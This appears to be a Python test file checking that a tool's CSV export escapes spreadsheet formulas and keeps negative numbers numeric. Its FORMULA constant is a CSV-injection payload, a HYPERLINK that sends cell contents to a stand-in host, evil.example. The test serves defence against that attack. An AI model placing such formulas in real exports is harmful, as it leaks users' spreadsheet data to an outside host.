"""An answer as CSV, opened in a spreadsheet, runs nothing that a provider wrote, and its numbers are numbers."""

import csv
import io
from pathlib import Path

from tests.projections.log import Log
from tests.services.cli.analysis.test_analysis import Desk, archived

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"see")'
SQL = """SELECT provider, -5 AS n, -1.5::DECIMAL(3,1) AS d, '-7' AS written, INTERVAL (-1) DAY AS span, E'x\\r=1' AS ended
         FROM agents"""


def test_a_formula_in_a_card_is_text_in_the_answer_and_a_negative_number_a_number(tmp_path: Path) -> None:
    log = Log()
    log.say("agent-tracked", target={"kind": "domain", "value": "p.example"}, provider=FORMULA)
    desk = Desk(archived(tmp_path / "data", log.facts), tmp_path)
    desk.say("sql", SQL, "--format", "csv", "-o", "told.csv")
    (row,) = csv.DictReader(io.StringIO((tmp_path / "told.csv").read_bytes().decode(), newline=""))
    assert (row["provider"], row["n"], row["d"], row["written"]) == (f"'{FORMULA}", "-5", "-1.5", "-7")
    assert row["ended"] == "x\r=1"
